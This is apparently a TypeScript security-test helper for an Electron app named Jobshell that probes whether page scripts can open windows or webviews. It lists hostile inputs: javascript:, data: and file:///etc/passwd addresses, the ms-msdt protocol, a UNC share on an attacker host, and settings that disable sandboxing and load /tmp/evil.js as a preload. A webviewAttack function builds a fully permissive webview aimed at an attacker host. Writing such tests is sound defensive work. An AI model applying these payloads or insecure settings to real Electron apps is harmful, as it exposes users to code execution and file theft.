/*
 * What a script in Jobshell's own page may try to get a window or a webview of its own. The functions run in the page's world,
 * each by itself, so they use nothing of this module.
 */

/** Where a new window might be led, and never is; `evil` is the host and port of somebody else's server. */
export function openingAddresses(evil: string): readonly string[] {
  return [
    'javascript:opener.canary("javascript")',
    'about:blank',
    'about:srcdoc',
    'data:text/html,<script>opener.canary("data")</script>',
    'blob:app://jobshell/0b7c7e2c-6f0d-4a53-9b1c-5a1a4f0f7a11',
    'file:///etc/passwd',
    `http://${evil}/open`,
    `http://user:password@${evil}/open`,
    'app://jobshell/?window=w9',
    'jobshell://open',
    'ms-msdt:/id',
    'view-source:http://127.0.0.1/',
    'devtools://devtools/bundled/inspector.html',
    'chrome://version',
    `\\\\${evil}\\share`,
    '',
    'not an address',
  ];
}

/** Settings of the new window's that older Electrons took from here. */
export const windowFeatures: readonly string[] = [
  '',
  'noopener,noreferrer',
  [
    'nodeIntegration=yes',
    'contextIsolation=no',
    'sandbox=no',
    'webSecurity=no',
    'allowRunningInsecureContent=yes',
    'experimentalFeatures=yes',
    'enableBlinkFeatures=CSSVariables',
    'webviewTag=yes',
    'preload=/tmp/evil.js',
    'show=no',
  ].join(','),
];

/**
 * What a page is let ask for by itself. Only this: an imitated window is held at its start until it is closed, and others than
 * this one may hold up their opener meanwhile. The rest asks the app's own handler (`openingAddresses`).
 */
export const openedByPage = 'javascript:opener.canary("javascript")';

export const runsInPage = {
  layCanary: (): void => {
    window.canaryHits = [];
    window.canary = (by) => void window.canaryHits.push(by);
  },
  canaryHits: (): readonly unknown[] => window.canaryHits,
  open: ({ target, features }: { readonly target: string; readonly features: string }): void => {
    try {
      window.open(target, '_blank', features);
    } catch {
      // Refused where it was asked for.
    }
  },
  click: (target: string): void => {
    const link = document.createElement('a');
    link.href = target;
    link.target = '_blank';
    link.rel = 'noopener';
    document.body.append(link);
    link.click();
    link.remove();
  },
} as const;

/** A webview with everything allowed that one can be allowed. Gives what came of it. */
export async function webviewAttack(evil: string): Promise<Readonly<Record<string, unknown>>> {
  const view = document.createElement('webview');
  const attributes = {
    allowpopups: '',
    nodeintegration: '',
    disablewebsecurity: '',
    enableblinkfeatures: 'CSSVariables',
    webpreferences: 'sandbox=no,contextIsolation=no,allowRunningInsecureContent,experimentalFeatures',
    preload: 'file:///tmp/evil.js',
    src: `http://${evil}/webview`,
  };
  for (const [name, value] of Object.entries(attributes)) view.setAttribute(name, value);
  let loaded = false;
  for (const event of ['load-commit', 'did-attach', 'dom-ready', 'did-fail-load', 'load'])
    view.addEventListener(event, () => (loaded = true));
  document.body.append(view);
  // Two drawings later an element that is one has begun.
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  const methods = ['loadURL', 'executeJavaScript', 'getWebContentsId', 'openDevTools', 'contentWindow'];
  return {
    isPlain: view.constructor === HTMLElement || view.constructor === HTMLUnknownElement,
    isDefined: customElements.get('webview') !== undefined,
    methods: methods.filter((name) => name in view),
    hasShadow: view.shadowRoot !== null,
    loaded,
  };
}
